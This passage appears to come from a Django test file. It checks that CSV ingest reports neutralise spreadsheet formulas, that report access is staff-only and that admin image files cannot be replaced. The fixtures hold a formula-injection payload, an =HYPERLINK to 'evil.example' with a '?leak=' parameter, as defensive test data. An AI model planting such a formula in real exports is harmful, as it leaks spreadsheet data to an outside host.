    body = run_job(staff, make_csv(FORMULA_ROWS), archive)
    assert (body["status"], body["succeeded"], body["failed"]) == ("completed_with_errors", 2, 1), body
    return body["id"]


def report(client, job_id: int) -> list[list[str]]:
    response = client.get(f"/api/ingest-jobs/{job_id}/report.csv")
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="ingest-job-{job_id}.csv"' in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with the mark
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_the_ingest_report_neutralises_formulas(staff, formula_job):
    header, *rows = report(staff, formula_job)
    assert header == ["line", "status", "error", "warning", "sku", "title", "image", "category", "price",
                      "description"]
    assert [row[:2] for row in rows] == [["2", "succeeded"], ["3", "failed"], ["4", "succeeded"]]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
    # Each value is all there, after a quote where it would start a formula.
    for row, given in zip(rows, FORMULA_ROWS):
        assert row[4:] == [f"'{value}" if value.startswith(("=", "+", "-", "@")) else value for value in given]
    assert rows[1][2] == "image: =img/none.jpg is not in the archive"


def test_formulas_are_stored_and_shown_as_given(staff, client, formula_job):
    """Only the CSV export needs the quote: the catalog keeps the values as given, the API returns them as
    JSON strings and the admin shows them as text."""
    product = Product.objects.get(sku="=1+2")
    assert (product.title, product.description) == (FORMULA_ROWS[0][1], FORMULA_ROWS[0][5])
    assert (product.category.parent.name, product.category.name) == ("@evil", "-minus")
    assert staff.get(f"/api/products/{product.pk}/").json()["title"] == FORMULA_ROWS[0][1]

    client.force_login(get_user_model().objects.create_superuser("root", password="root-pass-123"))
    page = client.get(f"/admin/catalog/product/{product.pk}/change/").content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)" in page
    job_page = client.get(f"/admin/catalog/ingestjob/{formula_job}/change/").content.decode()
    assert f'href="/api/ingest-jobs/{formula_job}/report.csv"' in job_page
    # The admin's session is enough to download it.
    assert client.get(f"/api/ingest-jobs/{formula_job}/report.csv").status_code == 200


def test_the_report_is_for_staff_only(anon, shopper, staff, formula_job):
    assert_refused(anon.get(f"/api/ingest-jobs/{formula_job}/report.csv"), status=401)
    assert_refused(shopper.get(f"/api/ingest-jobs/{formula_job}/report.csv"), status=403)
    assert_refused(staff.get("/api/ingest-jobs/999999/report.csv"), status=404)
    # Whatever the client asks for, the report is CSV and errors are JSON.
    assert staff.get(f"/api/ingest-jobs/{formula_job}/report.csv", HTTP_ACCEPT="text/csv").status_code == 200
    assert_refused(anon.get(f"/api/ingest-jobs/{formula_job}/report.csv", HTTP_ACCEPT="text/csv"), status=401)


def test_a_job_that_failed_as_a_whole_has_its_reason_in_the_report(staff, isolated_data):
    job = ingest.ingest_job_create(manifest=SimpleUploadedFile("m.csv", b"sku,title,image\nA,a,a.jpg\n"), start=False)
    ingest.ingest_job_fail(job_id=job.pk, reason="=the stored manifest cannot be read")
    header, *rows = report(staff, job.pk)
    assert rows == [["", "failed", "'=the stored manifest cannot be read", "", "", "", "", "", "", ""]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
     ("plain", "plain"), ("", ""), ("1-2", "1-2"), ("a=b", "a=b"), ("'=1", "'=1")],
)
def test_spreadsheet_cells(value, cell):
    assert ingest_report.spreadsheet_cell(value) == cell


# ----- the admin ---------------------------------------------------------------------------------

def test_the_admin_offers_no_way_to_replace_an_images_file(client, product, photo, deferred_embedding):
    image, _ = services.product_image_add(product=product, data=photo("chelsea"), filename="cat.jpg")
    client.force_login(get_user_model().objects.create_superuser("root", password="root-pass-123"))
    page = client.get(f"/admin/catalog/productimage/{image.pk}/change/").content.decode()
    assert 'type="file"' not in page
    response = client.post(f"/admin/catalog/productimage/{image.pk}/change/", {
        "product": product.pk, "status": image.status, "file": SimpleUploadedFile("x.png", b"<html>evil</html>"),
    })
    assert response.status_code in (200, 302)
    image.refresh_from_db()
    with image.file.open("rb") as f:
        assert sha256(f.read()) == image.sha256
